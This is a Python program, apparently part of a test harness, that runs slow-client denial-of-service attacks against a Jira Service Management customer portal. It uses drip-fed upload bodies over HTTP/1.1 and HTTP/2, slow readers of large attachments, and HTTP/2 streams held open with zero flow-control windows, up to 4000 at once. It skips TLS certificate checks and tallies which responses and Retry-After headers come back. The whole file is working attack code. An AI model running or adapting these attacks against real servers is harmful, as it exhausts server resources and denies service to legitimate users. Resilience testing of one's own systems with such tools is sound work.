"""One customer who asks for much and is slow, on purpose. Run as a program it begins an attack, prints a
line when all of it is under way, keeps it up until its input ends, and prints what was answered.

Usage: python3 -m parts.attacks ATTACK ADDRESS COOKIE"""

import asyncio
import json
import socket
import ssl
import sys
from collections import Counter
from dataclasses import dataclass

from h2.config import H2Configuration
from h2.connection import H2Connection
from h2.events import DataReceived, ResponseReceived, StreamEnded, StreamReset
from h2.settings import SettingCodes

UPLOAD = "/servicedesk/customershim/upload?name=large.bin"
BODY = 10 << 20  # bytes that are announced
BEGINNING = 64 << 10  # that are sent at once, so that JSM is asked
EVERY = 1  # second: one more byte is sent, or some are taken
TAKEN = 1024  # bytes at a time
DOWNLOAD = "/servicedesk/customershim/secure/attachment/10000/%d"
LARGE = 20 << 20
SMALL = 512 << 10  # JSM is soon done with it: gate and system keep all of it for the customer
STREAMS = 100  # on one connection of HTTP/2: as many as the gate allows
AGAIN = 5  # seconds after its end a request is made again


def trusting(protocol):
    """TLS with whoever is there."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols([protocol])
    return context


TRUSTING = {protocol: trusting(protocol) for protocol in ("http/1.1", "h2")}


class Attack:
    def __init__(self, count, address, cookie):
        self.count, self.address = count, address
        self.fields = {"cookie": cookie, "origin": f"https://{address}"}
        self.begun, self.answers = 0, Counter()
        self.under_way = asyncio.Event()

    def begin(self):
        self.begun += 1
        if self.begun == self.count:
            self.under_way.set()

    def note(self, status, retry_after):
        self.answers[f"{status}{' with Retry-After' if retry_after else ''}"] += 1

    async def connect(self, protocol, **options):
        host, port = self.address.split(":")
        stream = socket.socket()
        for option, value in options.items():
            stream.setsockopt(socket.SOL_SOCKET, getattr(socket, option), value)
        stream.setblocking(False)
        await asyncio.get_running_loop().sock_connect(stream, (host, int(port)))
        return await asyncio.open_connection(
            sock=stream, ssl=TRUSTING[protocol], server_hostname=host, limit=TAKEN * 16)

    def head(self, method, path, **more):
        lines = {"host": self.address, **self.fields, **more}
        text = "".join(f"{name}: {value}\r\n" for name, value in lines.items())
        return f"{method} {path} HTTP/1.1\r\n{text}\r\n".encode()


async def again_and_again(attack, one):
    while True:
        try:
            await one(attack)
        except (OSError, asyncio.IncompleteReadError):
            attack.note("nothing", False)
        await asyncio.sleep(AGAIN)


async def body_over_http1(attack):
    """Announces a body, sends its beginning, and then byte by byte until there is an answer."""
    reader, writer = await attack.connect("http/1.1")
    writer.write(attack.head("POST", UPLOAD, **{"content-length": BODY}))
    writer.write(b"x" * BEGINNING)
    attack.begin()
    answer = asyncio.create_task(reader.readuntil(b"\r\n\r\n"))
    while not answer.done():
        writer.write(b"x")
        await asyncio.wait([answer], timeout=EVERY)
    note_head(attack, answer.result())
    writer.transport.abort()


def slow_reader(length):
    """Asks for so much and takes little of it."""
    async def read(attack):
        reader, writer = await attack.connect("http/1.1", SO_RCVBUF=4096)
        writer.write(attack.head("GET", DOWNLOAD % length))
        attack.begin()
        note_head(attack, await reader.readuntil(b"\r\n\r\n"))
        while await reader.read(TAKEN):
            await asyncio.sleep(EVERY)
        writer.transport.abort()
    return read


def note_head(attack, head):
    attack.note(head.split(b" ")[1].decode(), b"retry-after:" in head.lower())


class Http2:
    """One connection with as many streams as it may have."""

    def __init__(self, attack, streams, method, path, window):
        self.attack, self.streams, self.window = attack, streams, window
        self.http2 = H2Connection(H2Configuration(header_encoding="utf-8"))
        self.head = {":method": method, ":path": path, ":scheme": "https",
                     ":authority": attack.address, **attack.fields}
        self.bodies = {}  # what of the beginning is still to be sent, by stream
        self.unanswered = set()

    async def run(self):
        reader, self.writer = await self.attack.connect("h2")
        self.http2.initiate_connection()
        if self.window is not None:
            self.http2.update_settings({SettingCodes.INITIAL_WINDOW_SIZE: self.window})
        for _ in range(self.streams):
            self.open()
        dripping = asyncio.create_task(self.drip())
        while part := await reader.read(1 << 16):
            for event in self.http2.receive_data(part):
                self.hear(event)
            self.flush()
        dripping.cancel()
        self.writer.close()
        for _ in self.unanswered:
            self.attack.note("nothing", False)

    def open(self):
        if self.writer.is_closing():
            return
        stream = self.http2.get_next_available_stream_id()
        head = dict(self.head)
        if has_body := head[":method"] == "POST":
            head["content-length"] = str(BODY)
            self.bodies[stream] = BEGINNING
        self.http2.send_headers(stream, head.items(), end_stream=not has_body)
        self.unanswered.add(stream)
        self.attack.begin()
        self.flush()

    async def drip(self):
        """The beginnings of bodies as fast as they are taken, then a byte of each at a time."""
        while True:
            for stream, rest in list(self.bodies.items()):
                room = min(self.http2.local_flow_control_window(stream),
                           self.http2.max_outbound_frame_size)
                if length := min(max(rest, 1), room):
                    self.http2.send_data(stream, b"x" * length)
                    self.bodies[stream] = max(rest - length, 0)
            self.flush()
            await asyncio.sleep(0.05 if any(self.bodies.values()) else EVERY)

    def hear(self, event):
        if isinstance(event, ResponseReceived):
            fields = dict(event.headers)
            self.attack.note(fields[":status"], "retry-after" in fields)
            self.unanswered.discard(event.stream_id)
        elif isinstance(event, DataReceived) and event.flow_controlled_length:
            self.http2.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
        elif isinstance(event, (StreamEnded, StreamReset)):
            if event.stream_id in self.unanswered:
                self.unanswered.discard(event.stream_id)
                self.attack.note("nothing", False)
            # What is left of a body after the answer is of no use to anybody.
            if self.bodies.pop(event.stream_id, None) is not None and isinstance(event, StreamEnded):
                self.http2.reset_stream(event.stream_id)
            asyncio.get_running_loop().call_later(AGAIN, self.open)

    def flush(self):
        self.writer.write(self.http2.data_to_send())


def over_http1(one):
    return lambda attack: [again_and_again(attack, one) for _ in range(attack.count)]


def over_http2(method, path, window=None):
    return lambda attack: [
        again_and_again(
            attack,
            lambda attack, streams=min(STREAMS, attack.count - first): Http2(
                attack, streams, method, path, window).run())
        for first in range(0, attack.count, STREAMS)]


@dataclass(frozen=True)
class Kind:
    what: str
    count: int
    tasks: object  # makes the coroutines that keep it up


ATTACKS = {
    "bodies-http2": Kind("bodies that drip, HTTP/2", 300, over_http2("POST", UPLOAD)),
    "bodies-http1": Kind("bodies that drip, HTTP/1.1", 300, over_http1(body_over_http1)),
    "readers": Kind("slow readers of 20 MB", 300, over_http1(slow_reader(LARGE))),
    "windows": Kind("closed windows, 20 MB", 4000, over_http2("GET", DOWNLOAD % LARGE, 0)),
    "small-readers": Kind("slow readers of 512 KB", 300, over_http1(slow_reader(SMALL))),
    "small-windows": Kind("closed windows, 512 KB", 4000, over_http2("GET", DOWNLOAD % SMALL, 0)),
}


async def main(name, address, cookie):
    kind = ATTACKS[name]
    attack = Attack(kind.count, address, cookie)
    running = [asyncio.create_task(task) for task in kind.tasks(attack)]
    await attack.under_way.wait()
    print("under way", flush=True)
    await asyncio.get_running_loop().run_in_executor(None, sys.stdin.read)
    for task in running:
        task.cancel()
    print(json.dumps(attack.answers), flush=True)


if __name__ == "__main__":
    asyncio.run(main(*sys.argv[1:]))
